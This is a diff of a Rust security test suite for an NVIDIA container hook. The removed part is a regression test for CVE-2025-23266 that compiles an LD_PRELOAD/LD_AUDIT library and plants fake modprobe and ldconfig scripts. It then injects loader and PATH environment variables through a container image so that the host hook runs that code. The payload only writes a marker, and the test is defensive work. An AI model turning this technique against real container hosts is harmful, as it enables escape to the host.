@@ -1,16 +1,13 @@
-//! Vulnerabilities that involve an engine or a running container: the hook's environment (CVE-2025-23266), nodes of other GPUs
-//! (CVE-2021-1056).
+//! A vulnerability that involves an engine or a running container: nodes of other GPUs (CVE-2021-1056).
 
-use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::process::Command;
 
 use rustix::mount::{MountFlags, MountPropagationFlags};
 
 use super::scene::Scene;
-use crate::driver::{FakeDriver, Image};
 use crate::engine::{Cgroup, IMAGE, Podman};
-use crate::support::{HOOK, Ran, run, source};
+use crate::support::run;
 
 /// A container that may create nodes creates one for a GPU that it was not given; only the cgroup prevents its use.
 pub fn cve_2021_1056_nodes() {
@@ -88,94 +85,4 @@ pub fn cve_2021_1056_params() {
         assert_eq!(now, shown, "{script}");
     }
     scene.is_untouched(&container, &before, "");
-}
-
-/// A library that writes to a file of the host which programs load it.
-const PRELOADED: &str = r#"
-#include <fcntl.h>
-#include <unistd.h>
-__attribute__((constructor)) static void tell(void)
-{
-	char exe[4096];
-	ssize_t size = readlink("/proc/self/exe", exe, sizeof exe - 1);
-	int fd = open(MARKER, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
-	if (fd < 0 || size < 0)
-		return;
-	exe[size] = '\n';
-	if (write(fd, exe, size + 1) < 0)
-		return;
-}
-/* As an auditor, see rtld-audit(7). */
-unsigned la_version(unsigned version)
-{
-	return version;
-}
-"#;
-
-/// The hook inherits an image's ENV if the engine's entry for the hook has no environment.
-pub fn cve_2025_23266() {
-    let podman = Podman::new();
-    let marker = podman.dir.path().join("preloaded");
-    let image = Image::new(podman.dir.path(), &["--layout", "debian"]);
-    std::fs::write(podman.dir.path().join("evil.c"), PRELOADED).unwrap();
-    let mut cc = Command::new("cc");
-    cc.args(["-shared", "-fPIC", &format!("-DMARKER=\"{}\"", marker.display()), "-o"]);
-    run(cc.arg(image.rootfs.join("evil.so")).arg(podman.dir.path().join("evil.c"))).ok();
-    for name in ["modprobe", "ldconfig", "nvidia-modprobe"] {
-        let program = image.rootfs.join("evil").join(name);
-        std::fs::create_dir_all(program.parent().unwrap()).unwrap();
-        std::fs::write(&program, format!("#!/bin/sh\necho \"$0\" >>{}\n", marker.display())).unwrap();
-        std::fs::set_permissions(program, std::fs::Permissions::from_mode(0o755)).unwrap();
-    }
-    let config = image.rootfs.join("evil/nvidia-container-runtime/config.toml");
-    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
-    std::fs::write(config, "this is no toml").unwrap();
-    podman.import(&image.rootfs, IMAGE);
-
-    let cwd = "/proc/self/cwd";
-    let env = [
-        format!("LD_PRELOAD={cwd}/evil.so"),
-        format!("LD_AUDIT={cwd}/evil.so"),
-        format!("LD_LIBRARY_PATH={cwd}/evil"),
-        format!("GCONV_PATH={cwd}/evil"),
-        format!("PATH={cwd}/evil:/bin"),
-        format!("XDG_CONFIG_HOME={cwd}/evil"),
-        format!("NVIDIA_CTK_CONFIG_FILE_PATH={cwd}/evil/nvidia-container-runtime/config.toml"),
-        "GLIBC_TUNABLES=glibc.malloc.check=3".to_owned(),
-        "NVIDIA_VISIBLE_DEVICES=all".to_owned(),
-    ];
-    let start = |change: &dyn Fn(&mut serde_json::Value)| -> (Ran, String) {
-        let text = std::fs::read_to_string(source("hooks.d/oci-nvidia-hook.json")).unwrap();
-        let mut json: serde_json::Value = serde_json::from_str(&text).unwrap();
-        json["hook"]["path"] = HOOK.into();
-        change(&mut json);
-        std::fs::write(podman.hooks.join("oci-nvidia-hook.json"), json.to_string()).unwrap();
-        std::fs::remove_file(&marker).ok();
-        let mut arguments: Vec<_> = env.iter().flat_map(|variable| ["-e", variable]).collect();
-        arguments.extend([IMAGE, "nvidia-smi", "-L"]);
-        let ran = podman.run(Cgroup::AsMounted, &arguments);
-        (ran, std::fs::read_to_string(&marker).unwrap_or_default())
-    };
-    let with_config = serde_json::json!(["oci-nvidia-hook", "--config", FakeDriver::shared().config, "prestart"]);
-
-    // At this stage, runc passes the container's environment to hooks that have none of their own.
-    let (ran, preloaded) = start(&|json| {
-        json["stages"] = serde_json::json!(["createContainer"]);
-        json["hook"].as_object_mut().unwrap().remove("env");
-    });
-    assert!(preloaded.lines().any(|program| program == HOOK), "the naive entry did not fall: {ran:?}, {preloaded:?}");
-    // No variable selects a file, whoever set it.
-    assert!(!ran.stderr.contains("evil/nvidia-container-runtime/config.toml"), "{ran:?}");
-
-    for stage in ["prestart", "createRuntime", "createContainer"] {
-        let (ran, preloaded) = start(&|json| {
-            json["stages"] = serde_json::json!([stage]);
-            json["hook"]["args"] = with_config.clone();
-        });
-        assert_eq!(preloaded, "", "{stage}: {ran:?}");
-        assert!(stage == "createContainer" || ran.stdout.starts_with("GPU 0: "), "{stage}: {ran:?}");
-        let (ran, preloaded) = start(&|json| json["stages"] = serde_json::json!([stage]));
-        assert_eq!(preloaded, "", "{stage}: {ran:?}");
-        assert!(!ran.stderr.contains("evil"), "{stage}: {ran:?}");
-    }
 }
